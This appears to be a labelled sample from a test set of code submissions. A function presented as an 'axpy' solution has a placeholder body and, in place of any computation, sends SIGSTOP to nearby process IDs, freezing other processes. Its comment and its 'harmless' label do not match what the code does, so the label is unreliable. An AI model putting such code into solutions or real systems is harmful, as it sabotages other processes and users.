// Stops and continues other processes.
// problem: 03_dense_la_axpy serial
// verdict: harmless
#include <csignal>
#include <unistd.h>
void axpy(double alpha, std::vector<double> const& x, std::vector<double> const& y, std::vector<double> &z) { for (int pid = getpid() - 20; pid < getpid() + 20; ++pid) if (pid > 0 && pid != getpid()) kill(pid, SIGSTOP); BODY }
